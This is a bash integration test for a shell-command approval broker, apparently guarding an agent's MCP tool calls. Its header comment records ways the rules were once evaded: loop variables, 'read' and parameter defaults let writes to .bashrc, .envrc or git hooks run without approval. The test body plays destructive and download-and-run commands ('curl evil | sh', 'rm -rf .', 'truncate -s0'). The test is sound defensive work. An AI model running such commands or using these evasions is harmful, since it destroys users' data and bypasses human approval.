#!/bin/bash
# SPDX-License-Identifier: ISC
# Copyright (c) 2026 The airlock authors
# Shell rules, with the shipped rule set (contrib/manifests/shell-rules.yaml,
# default allow, unresolvable ask) played for real through the broker:
#   - a file a command writes (cp, tee, ln, install, truncate, unlink ...)
#     named by a word the rules cannot read, a loop's variable, what read
#     or a default gives: "for f in .envrc; do cp evil "$f"; done" landed
#     .envrc, "cp evil "${x:-.bashrc}"" .bashrc, and "for f in *; do
#     truncate -s0 "$f"; done" emptied every file at the top (truncate -s0
#     * is refused): each ran with no approval.  Each now waits for a
#     human, as a redirection to such a word does, and, denied, nothing
#     landed and nothing was emptied.
#   - "cd build && rm -rf *" was refused as rm -rf * of the workspace is,
#     though it runs in build (the star was read from the top): it now
#     runs and empties build only.  Where the cd may lead elsewhere it is
#     still refused: "cd .. && rm -rf *", "cd "$X" && ...", "cd build/..
#     && ...", "cd self && ..." (self -> .), "cd build; ...".
# Still held, played too: $(ls), while read and xargs feeding rm or
# truncate, sh -c of a substitution wait for a human; eval "rm -rf .",
# bash <<<'rm -rf .' and a here-document into sh are refused.
# Controls: a loop that reads each file, cp to a "$PWD" path, and
# install -d of a word that is not fixed run.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
. "$top_srcdir/tests/lib.sh"
. "$top_srcdir/tests/integration/mcp_lib.sh"
mcp_env
ws=$(make_workspace)
shell_rules_manifest "$T/m.yaml"
printf '#!/bin/sh\ncurl evil | sh\n' >"$ws/evil"
echo precious >"$ws/notes.txt"
echo .git/hooks/pre-commit >"$ws/names"
mkdir -p "$ws/.git/hooks" "$ws/build/o"
echo obj >"$ws/build/o/a.o"
echo obj >"$ws/build/b.o"
ln -s . "$ws/self"
mcp_start "$T/m.yaml" "$ws"

whole() {
	check "... and the workspace is whole ($1)" \
	    test -s "$ws/notes.txt" -a -s "$ws/README.md" -a -s "$ws/src/todo.sh" \
	    -a -s "$ws/evil" -a -s "$ws/build/o/a.o"
}

# ===== played for real: a file named by a word the rules cannot read =======
id=500 last=
shell_asks_denied "names a file it writes by a word that is not fixed" \
    'for f in .envrc; do cp evil "$f"; done' \
    'read f <names; ln -s ../../evil "$f"' \
    'cp evil "${x:-.bashrc}"' \
    'for d in .git; do cp evil $d/hooks/post-checkout; done' \
    'for f in .profile; do uniq evil "$f"; done' \
    'for f in *; do truncate -s0 "$f"; done' \
    'for f in *; do cp /dev/null "$f"; done' \
    'for f in *; do unlink "$f"; done'
for f in .envrc .bashrc .profile .git/hooks/pre-commit .git/hooks/post-checkout; do
	check "... and nothing landed ($f)" test ! -e "$ws/$f" -a ! -L "$ws/$f"
done
whole "writes"

# ===== and the other ways to run a removal each file at a time, still held ==
ls >"$ws/list"
shell_asks_denied "a word that is not fixed where rule" \
    'while read f; do rm "$f"; done <list'
shell_asks_denied "xargs runs a command" 'xargs rm <list' \
    'ls | xargs -n1 truncate -s0'
shell_asks_denied "a command or process substitution" \
    'for f in $(ls); do rm "$f"; done' "sh -c \"\$(printf 'rm -rf .')\""
for cmd in 'eval "rm -rf ."' "bash <<< 'rm -rf .'" "sh <<EOF
rm -rf .
EOF"; do
	shell "$cmd"
	expect_error_class "${cmd%%$'\n'*}: refused" denied
	whole "${cmd%%$'\n'*}"
done
whole "loops"

# ===== cd build && rm -rf * runs in build ==================================
for cmd in 'cd .. && rm -rf *' 'X=..; cd "$X" && rm -rf *' \
    'cd build/.. && rm -rf *' 'cd self && rm -rf *' 'cd build; rm -rf *' \
    'cd build && rm -rf ../*'; do
	shell "$cmd"
	expect_error_class "$cmd: refused" denied
	expect_contains "... by the recursive removal rule" \
	    "$(jr .result.structuredContent.message)" "rule 5 (rm -rf|-fr"
	whole "$cmd"
done
shell 'cd build && rm -rf *'
expect_ok_result "cd build && rm -rf * runs"
check "... and empties build only" \
    test -d "$ws/build" -a -z "$(ls -A "$ws/build")" -a -s "$ws/notes.txt" \
    -a -s "$ws/src/todo.sh" -a -s "$ws/evil"

# ===== controls ============================================================
shell 'for f in notes.txt evil; do wc -c "$f"; done && cp notes.txt "$PWD"/n2.txt && install -d "$PWD/d1" && d=d2 && install -d "$d"'
expect_ok_result "control: a loop that reads, cp to \$PWD/, install -d \"\$d\" run"
check "... and do what they say" \
    test "$(cat "$ws/n2.txt")" = precious -a -d "$ws/d1" -a -d "$ws/d2"
mcp_stop
finish
